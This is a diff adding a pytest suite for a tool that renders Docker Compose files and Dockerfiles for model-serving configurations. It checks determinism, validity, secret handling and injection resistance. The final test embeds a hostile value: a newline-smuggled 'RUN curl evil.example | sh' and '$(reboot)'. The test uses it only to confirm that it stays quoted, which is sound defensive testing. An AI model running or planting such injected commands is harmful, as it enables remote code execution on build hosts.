@@ -1,0 +1,160 @@
+"""Rendered files: deterministic, checked in, valid for Compose v2 and hadolint, injection-proof."""
+
+from __future__ import annotations
+
+import json
+import shutil
+import subprocess
+import sys
+from pathlib import Path
+
+import pytest
+import yaml
+
+from tests.conftest import Run, builtin_text
+from toolkit import render
+from toolkit.catalog import REPO_ROOT, Catalog, Config
+from toolkit.compose import compose_command
+
+NAMES = list(Catalog.load())
+VLLM_NAMES = [name for name, config in Catalog.load().items() if config.backend == "vllm"]
+
+
+def test_rendering_is_byte_identical_across_runs(catalog: Catalog) -> None:
+    first = render.outputs(catalog)
+    again = render.outputs(Catalog.load())
+    assert first == again
+    assert len(first) == 2 * len(catalog) + 1, (
+        "a compose file and a Dockerfile each, and the README"
+    )
+
+
+def test_checked_in_files_match_the_catalog(run: Run) -> None:
+    result = run("render", "--check")
+    assert result.exit_code == 0, result.stderr
+    assert "all generated files match the catalog" in result.stdout
+
+
+def test_check_fails_naming_the_file_and_the_fix_after_a_config_edit(
+    run: Run, user_catalog
+) -> None:
+    edited = builtin_text("llama3-8b").replace("max-model-len: 8192", "max-model-len: 4096")
+    directory = user_catalog("llama3-8b.yaml", edited)
+    result = run("--catalog", str(directory), "render", "--check")
+    assert result.exit_code == 1
+    assert result.stderr == (
+        "error: 2 generated file(s) differ from the catalog (compose/llama3-8b.yaml, "
+        "images/vllm/llama3-8b.Dockerfile); run 'toolkit render' and commit the result.\n"
+    )
+
+
+def test_render_removes_output_of_a_deleted_config(tmp_path: Path, monkeypatch) -> None:
+    for name in ("COMPOSE_DIR", "IMAGES_DIR"):
+        target = tmp_path / name
+        shutil.copytree(getattr(render, name), target)
+        monkeypatch.setattr(render, name, target)
+    stale = tmp_path / "COMPOSE_DIR" / "gone.yaml"
+    stale.write_text(f"# {render.GENERATED_MARK} from configs/gone.yaml.\n")
+    kept = tmp_path / "COMPOSE_DIR" / "mine.yaml"
+    kept.write_text("services: {}\n")
+    catalog = Catalog.load()
+    assert stale in render.check(catalog)
+    render.write(catalog)
+    assert not stale.exists()
+    assert kept.exists(), "files without the generated header are the user's: never deleted"
+    assert render.check(catalog) == []
+
+
+@pytest.mark.parametrize("name", NAMES)
+def test_compose_file_is_valid_for_compose_v2(name: str) -> None:
+    path = REPO_ROOT / "compose" / f"{name}.yaml"
+    result = subprocess.run(
+        [*compose_command(), "-f", str(path), "config", "--quiet"],
+        capture_output=True,
+        text=True,
+        check=False,
+    )
+    assert result.returncode == 0, result.stderr
+
+
+@pytest.mark.parametrize("name", NAMES)
+def test_dockerfile_passes_hadolint(name: str, catalog: Catalog) -> None:
+    hadolint = shutil.which("hadolint") or str(Path(sys.executable).parent / "hadolint")
+    path = render.dockerfile_path(catalog[name])
+    result = subprocess.run(
+        [hadolint, "--failure-threshold", "info", str(path)],
+        capture_output=True,
+        text=True,
+        check=False,
+    )
+    assert result.returncode == 0, result.stdout + result.stderr
+
+
+def _service(catalog: Catalog, config: Config) -> dict:
+    return yaml.safe_load(render.render_compose(catalog, config))["services"]["model"]
+
+
+@pytest.mark.parametrize("name", NAMES)
+def test_compose_defaults_the_field_learned(name: str, catalog: Catalog) -> None:
+    config = catalog[name]
+    service = _service(catalog, config)
+    port = catalog.backend(config).container_port
+    assert service["ports"] == [
+        f"${{TOOLKIT_BIND_ADDRESS:-127.0.0.1}}:${{TOOLKIT_PORT:-{config.port}}}:{port}"
+    ]
+    assert service["restart"] == "unless-stopped"
+    assert service["logging"]["options"] == {"max-size": "50m", "max-file": "3"}
+    assert service["healthcheck"]["start_period"] == f"{config.startup_seconds}s"
+    assert "toolkit-model-cache:/cache" in service["volumes"]
+    if config.gpus:
+        device = service["deploy"]["resources"]["reservations"]["devices"][0]
+        assert device["device_ids"] == [f"${{TOOLKIT_GPU_{i}:-{i}}}" for i in range(config.gpus)]
+    else:
+        assert "deploy" not in service
+    if config.gpus > 1:
+        assert service["shm_size"].endswith("gb")
+        assert f"--tensor-parallel-size {config.gpus}" in " ".join(service["command"])
+
+
+@pytest.mark.parametrize("name", VLLM_NAMES)
+def test_vllm_command_serves_the_table_name(name: str, catalog: Catalog) -> None:
+    config = catalog[name]
+    command = _service(catalog, config)["command"]
+    assert command[command.index("--served-model-name") + 1] == config.model
+
+
+def test_gated_models_get_their_token_as_a_secret_never_a_value(catalog: Catalog) -> None:
+    config = catalog["llama3-8b"]
+    document = yaml.safe_load(render.render_compose(catalog, config))
+    service = document["services"]["model"]
+    assert service["secrets"] == ["hf_token"]
+    assert service["environment"]["HF_TOKEN_PATH"] == "/run/secrets/hf_token"
+    assert document["secrets"]["hf_token"] == {
+        "file": "${HF_TOKEN_FILE:-~/.cache/huggingface/token}"
+    }
+    assert all("HF_TOKEN=" not in text for text in render.outputs(catalog).values())
+
+
+def test_hostile_values_cannot_inject_a_line(user_catalog) -> None:
+    hostile = 'x"\nRUN curl evil.example | sh\n#'
+    lines = [
+        line
+        for line in builtin_text("flux.1-dev").splitlines()
+        if not line.startswith("description:")
+    ]
+    text = "\n".join(lines).replace(
+        "TOOLKIT_DTYPE: bfloat16", f"TOOLKIT_DTYPE: {json.dumps(hostile)}"
+    )
+    text += f"\ndescription: {json.dumps(hostile + ' $(reboot)')}\n"
+    hostile_catalog = Catalog.load(user_catalog("flux.1-dev.yaml", text))
+    config = hostile_catalog["flux.1-dev"]
+    dockerfile = render.render_dockerfile(hostile_catalog, config)
+    instructions = [
+        line.split()[0]
+        for line in dockerfile.splitlines()
+        if line and not line.startswith((" ", "#"))
+    ]
+    assert instructions.count("RUN") == 1, "only the template's own RUN"
+    assert "curl evil.example" in dockerfile, "the value is kept, quoted, not dropped"
+    compose = yaml.safe_load(render.render_compose(hostile_catalog, config))
+    assert set(compose) == {"name", "services", "volumes", "secrets"}
